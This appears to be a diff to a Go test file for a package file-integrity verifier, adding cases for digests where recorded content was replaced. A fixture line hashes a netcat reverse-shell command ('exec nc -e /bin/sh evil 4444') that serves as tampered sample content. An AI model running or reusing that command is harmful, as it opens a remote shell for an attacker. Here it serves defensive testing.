@@ -5,6 +5,7 @@ import (
 	"crypto/sha1"
 	"crypto/sha256"
 	"encoding/hex"
+	"strings"
 	"testing"
 )
 
@@ -18,6 +19,7 @@ func TestVerify(t *testing.T) {
 	md, sh1, sh256 := hexsum(m[:]), hexsum(s1[:]), hexsum(s256[:])
 	tampered := md5.Sum([]byte("#!/bin/sh\nexec nc -e /bin/sh evil 4444\n"))
 	file := Observed{Kind: Regular, MD5: md, SHA1: sh1, SHA256: sh256}
+	other := strings.Repeat("ab", 32) // another content's sha256
 	target := sha1.Sum([]byte("../lib/libz.so.1.3"))
 	for _, tt := range []struct {
 		name string
@@ -36,6 +38,18 @@ func TestVerify(t *testing.T) {
 		{"sha256-160 is not sha1", File{Path: "/bin/x", Algorithm: SHA256_160, Digest: sh1}, file, Modified},
 		{"sha512 not computed", File{Path: "/bin/x", Algorithm: SHA512, Digest: sh256 + sh256}, file, NotVerifiable},
 		{"md5 not computed", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, Observed{Kind: Regular, SHA256: sh256}, NotVerifiable},
+		{"md5 not computed, replaced the recorded content", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
+			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: md, SHA1: sh1}}}, Modified},
+		{"sha1 not computed, replaced the recorded content", File{Path: "/bin/x", Algorithm: SHA1, Digest: upper(sh1)},
+			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: md, SHA1: sh1}}}, Modified},
+		{"conffile not computed, replaced the recorded content", File{Path: "/etc/x", Algorithm: MD5, Digest: md, Flags: Conffile},
+			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: md}}}, ConffileModified},
+		{"md5 not computed, replaced other content", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
+			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: hexsum(tampered[:])}}}, NotVerifiable},
+		{"md5 not computed, replaced the same content", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
+			Observed{Kind: Regular, SHA256: sh256, Replaced: []Digests{{SHA256: sh256, MD5: md}}}, NotVerifiable},
+		{"md5 not computed, no sha256 to tell", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
+			Observed{Kind: Regular, Replaced: []Digests{{SHA256: sh256, MD5: md}}}, NotVerifiable},
 		{"missing", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, Observed{}, Missing},
 		{"missing conffile", File{Path: "/etc/x", Algorithm: MD5, Digest: md, Flags: Conffile}, Observed{}, Missing},
 		{"excluded and absent", File{Path: "/usr/share/doc/x/README", Algorithm: MD5, Digest: md}, Observed{Excluded: true}, Excluded},
